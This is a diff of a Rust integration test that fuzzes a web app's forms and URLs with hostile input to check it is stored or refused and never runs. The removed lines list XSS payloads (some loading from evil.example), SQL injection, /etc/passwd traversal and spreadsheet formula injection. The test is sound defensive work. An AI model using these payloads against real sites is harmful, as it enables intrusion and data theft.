@@ -8,153 +8,12 @@ use domain::case::{Command, Visibility};
 use domain::text::Sentence;
 use pages::case::Verb;
 
+use super::forms::{Found, forms, send};
 use super::listed;
+use super::payloads::{Payload, is_raw, payloads};
 use super::world::{self, Which, Who, World};
 use crate::app::{Answer, TestApp, Visitor};
-use crate::html::unescape;
-use crate::town::{self, HOSTILE, PASSWORD, attributes, nothing_runs, tags};
-
-/// Besides [`HOSTILE`].
-const MORE: &[&str] = &[
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext></p><img src=x onerror=alert(1)>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=javascript:alert(1)>",
-    "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "vbscript:msgbox(1)",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<style>@import'//evil.example/x.css';</style>",
-    "</style><script>alert(1)</script>",
-    "</noscript><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "\" autofocus onfocus=alert(1) x=\"",
-    "' autofocus onfocus=alert(1) x='",
-    "` onmouseover=alert(1) `",
-    "\"/><leptos-island data-component=\"evil\">",
-    "<!--hot-reload|evil--><script>alert(1)</script>",
-    "<form action=//evil.example><input name=password>",
-    "</form><form method=post action=/sign-out><button>",
-    "<input name=key value=evil>",
-    "' OR '1'='1",
-    "1); DELETE FROM people; --",
-    "$1 $2 ?1 :name @name",
-    "%' ESCAPE '\\",
-    "../../../../etc/passwd",
-    "//evil.example/",
-    "https://evil.example/?q=<script>",
-    "=1+1;cmd|' /C calc'!A0",
-    "-9223372036854775809",
-    "1e999",
-    "NaN",
-    "2026-02-30",
-    "0000-00-00",
-    "\u{0}",
-    "\u{7f}\u{80}\u{9f}",
-    "\u{2028}\u{2029}",
-    "\u{e0001}\u{e0041}",
-    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
-    "ﷺ﷽",
-    "ⅷ①²㎏",
-    "İıſK",
-    "繁體簡體髮发發後后",
-];
-
-/// Bytes that are no text at all, as a program can send them.
-const NO_TEXT: &[&[u8]] = &[
-    b"%ED%A0%80",
-    b"%FF%FE%00",
-    b"%C0%AF",
-    b"%F4%90%80%80",
-    b"%",
-    b"%E7%81",
-];
-
-/// A form of a page.
-#[derive(Clone, Debug)]
-struct Found {
-    cookies: Vec<(String, String)>,
-    action: String,
-    files: bool,
-    fields: Vec<Field>,
-}
-
-#[derive(Clone, Debug)]
-struct Field {
-    name: String,
-    /// `text`, `hidden`, `choice`.
-    typed: bool,
-    value: String,
-}
-
-/// Every form of a page that is posted.
-fn forms(page: &Answer, cookies: &[(String, String)]) -> Vec<Found> {
-    let mut found: Vec<Found> = Vec::new();
-    let mut inside = false;
-    for tag in tags(&page.text) {
-        let kind = tag
-            .split(|one: char| one.is_whitespace())
-            .next()
-            .unwrap_or_default()
-            .to_owned();
-        let about = attributes(&tag);
-        let about = |name: &str| {
-            about
-                .get(name)
-                .map(|value| unescape(value))
-                .unwrap_or_default()
-        };
-        match kind.as_str() {
-            "form" if about("method") == "post" => {
-                inside = true;
-                found.push(Found {
-                    cookies: cookies.to_vec(),
-                    action: about("action"),
-                    files: about("enctype") == "multipart/form-data",
-                    fields: Vec::new(),
-                });
-            }
-            "/form" => inside = false,
-            "option" if inside => {
-                // The first option stands for the field.
-                let form = found.last_mut().unwrap();
-                if let Some(field) = form
-                    .fields
-                    .last_mut()
-                    .filter(|field| field.value.is_empty())
-                {
-                    field.value = about("value");
-                }
-            }
-            "input" | "textarea" | "select" | "button" if inside && !about("name").is_empty() => {
-                let form = found.last_mut().unwrap();
-                let name = about("name");
-                let typed = match kind.as_str() {
-                    "textarea" => true,
-                    "input" => !matches!(
-                        about("type").as_str(),
-                        "hidden" | "radio" | "checkbox" | "file" | "submit"
-                    ),
-                    _ => false,
-                };
-                let file = kind == "input" && about("type") == "file";
-                if !file && !form.fields.iter().any(|field| field.name == name) {
-                    form.fields.push(Field {
-                        name,
-                        typed,
-                        value: about("value"),
-                    });
-                }
-            }
-            _ => {}
-        }
-    }
-    found
-}
+use crate::town::{self, PASSWORD, nothing_runs, tags};
 
 /// The start of the story: more stages, drafts, codes that are awaited.
 struct Stage {
@@ -292,84 +151,6 @@ async fn stage(app: &TestApp, world: &World) -> Stage {
     }
 }
 
-/// Percent-encoded, as a browser sends text; what is no text goes as it is.
-enum Payload {
-    Text(String),
-    Bytes(&'static [u8]),
-}
-
-impl Payload {
-    fn encoded(&self) -> Vec<u8> {
-        match self {
-            Self::Text(text) => pages::routes::query_value(text).into_bytes(),
-            Self::Bytes(bytes) => bytes.to_vec(),
-        }
-    }
-
-    fn raw(&self) -> &[u8] {
-        match self {
-            Self::Text(text) => text.as_bytes(),
-            Self::Bytes(_) => b"\xed\xa0\x80\xff\xfe",
-        }
-    }
-}
-
-fn payloads() -> Vec<Payload> {
-    let long = [
-        "x".repeat(100_000),
-        "字".repeat(2_000),
-        "<b>".repeat(1_500),
-        "\u{301}".repeat(3_000),
-    ];
-    let texts = HOSTILE
-        .iter()
-        .chain(MORE)
-        .map(|text| (*text).to_owned())
-        .chain(long);
-    let bytes = NO_TEXT.iter().map(|bytes| Payload::Bytes(bytes));
-    texts.map(Payload::Text).chain(bytes).collect()
-}
-
-/// Sends a form with the payload in what is typed, or in everything.
-async fn send(browser: &mut Visitor, form: &Found, payload: &Payload, everywhere: bool) -> Answer {
-    const EDGE: &str = "----linli-edge";
-    let hostile = |field: &Field| field.typed || everywhere;
-    if form.files {
-        let mut body = Vec::new();
-        for field in &form.fields {
-            let head = format!(
-                "--{EDGE}\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n",
-                field.name
-            );
-            body.extend_from_slice(head.as_bytes());
-            let value = if hostile(field) {
-                payload.raw()
-            } else {
-                field.value.as_bytes()
-            };
-            body.extend_from_slice(value);
-            body.extend_from_slice(b"\r\n");
-        }
-        body.extend_from_slice(format!("--{EDGE}--\r\n").as_bytes());
-        let kind = format!("multipart/form-data; boundary={EDGE}");
-        return browser.post_bytes(&form.action, &kind, body).await;
-    }
-    let mut body = Vec::new();
-    for field in &form.fields {
-        body.extend_from_slice(pages::routes::query_value(&field.name).as_bytes());
-        body.push(b'=');
-        if hostile(field) {
-            body.extend(payload.encoded());
-        } else {
-            body.extend_from_slice(pages::routes::query_value(&field.value).as_bytes());
-        }
-        body.push(b'&');
-    }
-    browser
-        .post_bytes(&form.action, "application/x-www-form-urlencoded", body)
-        .await
-}
-
 #[track_caller]
 fn harmless(answer: &Answer, payload: &Payload, what: &str) {
     assert!(
@@ -456,17 +237,6 @@ async fn attack(
     answers
 }
 
-/// Whether one engine takes it otherwise than another: what is no text, and what is long.
-fn is_raw(payload: &Payload) -> bool {
-    let odd = |text: &str| {
-        text.len() > 2_000 || text.chars().any(|one| one.is_control() || one > '\u{fff0}')
-    };
-    match payload {
-        Payload::Text(text) => odd(text) || text.contains('\''),
-        Payload::Bytes(_) => true,
-    }
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn hostile_text_in_every_field_is_stored_or_refused_and_never_runs() {
     let world = World::get().await;
@@ -539,23 +309,24 @@ async fn attack_addresses(app: &TestApp, world: &World, number: usize, payload: 
             }
         };
         let filled: Vec<String> = template.split('/').map(part).collect();
-        for address in [format!("{path}?{}", query.join("&")), filled.join("/")] {
-            // What is no address, a browser cannot ask for.
-            if address.parse::<http::Uri>().is_err() {
-                continue;
-            }
-            let who = if number.is_multiple_of(2) {
-                Who::Holder
-            } else {
-                Who::Visitor
-            };
-            let answer = world.browser(app, who).get(&address).await;
-            harmless(
-                &answer,
-                payload,
-                &format!("{template} with payload {number}"),
-            );
+        // Every other payload goes into the path. What is no address, a browser cannot ask for.
+        let in_query = number.is_multiple_of(2) || !template.contains('{');
+        let address = if in_query {
+            format!("{path}?{}", query.join("&"))
+        } else {
+            filled.join("/")
+        };
+        if address.parse::<http::Uri>().is_err() {
+            continue;
         }
+        let who = if number.is_multiple_of(3) {
+            Who::Holder
+        } else {
+            Who::Visitor
+        };
+        let answer = world.browser(app, who).get(&address).await;
+        let what = format!("{template} with payload {number}");
+        harmless(&answer, payload, &what);
     }
 }
 
